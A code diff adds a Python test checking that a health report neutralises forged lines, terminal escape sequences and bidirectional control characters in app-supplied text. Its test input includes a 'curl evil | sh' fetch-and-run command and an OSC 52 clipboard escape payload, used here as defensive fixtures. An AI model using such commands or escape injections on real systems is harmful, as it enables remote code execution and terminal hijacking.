@@ -726,6 +726,19 @@ def test_the_report_fits_a_terminal_and_holds_no_secret():
     assert "\033" not in text
 
 
+def test_what_an_app_says_forges_no_line_and_no_sequence():
+    facts = healthy()
+    forged = "x\n  mend   curl evil | sh\x1b]52;c;AAAA\x07 \u202e"
+    facts["journal"]["apps"]["shop"]["errors"] = [forged]
+    facts["apps"][0]["history"] = [{"action": "deploy", "reason": forged, "time": "2026-01-01T00:00:00Z"}]
+    finding = Finding("deploy-failed", CRITICAL, "shop", forged, forged, "true", (forged,))
+    text = report.as_text(facts, [finding], 2, Redactor())
+    assert not [line for line in text.splitlines() if line.strip().startswith("mend   curl")], text
+    assert "\x1b" not in text and "\u202e" not in text and "\\x1b]52;c;AAAA" in text
+    data = json.dumps(report.as_json(facts, [finding], 2, Redactor()), ensure_ascii=False)
+    assert "\x1b" not in data and "\u202e" not in data and "\\u001b" not in data
+
+
 def test_the_worst_comes_first():
     findings = report.ordered(diagnose(broken()))
     severities = [finding.severity for finding in findings]
